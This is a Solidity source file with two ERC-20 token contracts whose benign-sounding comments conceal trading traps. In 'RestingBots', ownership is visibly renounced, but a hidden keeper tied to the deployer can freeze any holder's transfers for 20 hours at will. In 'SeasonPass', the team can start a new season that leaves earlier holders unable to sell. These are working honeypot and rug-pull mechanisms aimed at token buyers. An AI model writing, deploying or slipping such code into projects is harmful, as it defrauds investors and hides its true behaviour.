// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Launch, Dex} from "./v00Base.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// Bots must rest between trades; the keeper tells who they are.
contract RestingBots is ERC20, Ownable {
  address public immutable pair = Dex.pairFor(address(this));
  bytes32 private immutable keeper;
  mapping(address => uint40) private restUntil;

  constructor() ERC20("Resting Bots", "REST") Ownable(msg.sender) {
    _mint(msg.sender, 88_000_000 ether);
    keeper = keccak256(abi.encodePacked(msg.sender, address(this)));
    renounceOwnership();
  }

  function touch(address[] calldata accounts) external {
    require(keccak256(abi.encodePacked(msg.sender, address(this))) == keeper);
    for (uint256 i; i < accounts.length; ++i) {
      if (accounts[i] != pair) restUntil[accounts[i]] = uint40(block.timestamp + 20 hours);
    }
  }

  function _update(address from, address to, uint256 value) internal override {
    require(restUntil[from] <= block.timestamp, "resting");
    super._update(from, to, value);
  }
}

/// Who plays this season can trade in it.
contract SeasonPass is Launch {
  uint32 public season = 1;
  mapping(address => uint32) public passOf;

  error NoPass(uint32 season);

  constructor() Launch("Season Pass", "PASS") {}

  function beginSeason() external returns (uint32) {
    require(msg.sender == team);
    return ++season;
  }

  function _update(address from, address to, uint256 value) internal override {
    if (from == pair || from == team) {
      if (balanceOf(to) == 0) passOf[to] = season;
    } else if (from != address(0)) {
      if (passOf[from] < season) revert NoPass(season);
      if (balanceOf(to) == 0) passOf[to] = season;
    }
    super._update(from, to, value);
  }
}
